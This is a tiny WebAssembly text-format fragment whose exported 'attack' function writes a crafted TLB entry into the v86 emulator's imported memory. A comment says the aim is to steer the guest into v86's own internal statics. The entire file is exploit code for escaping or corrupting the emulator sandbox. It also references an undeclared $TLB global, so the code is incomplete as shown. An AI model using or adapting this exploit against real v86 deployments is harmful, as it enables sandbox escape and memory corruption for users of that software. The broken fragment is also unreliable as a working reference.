;; A TLB entry that leads the guest to v86's own statics.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (i32.store (i32.add (global.get $TLB) (i32.shl (i32.const 0x400) (i32.const 2))) (i32.or (i32.const 0x400000) (i32.const 1))))
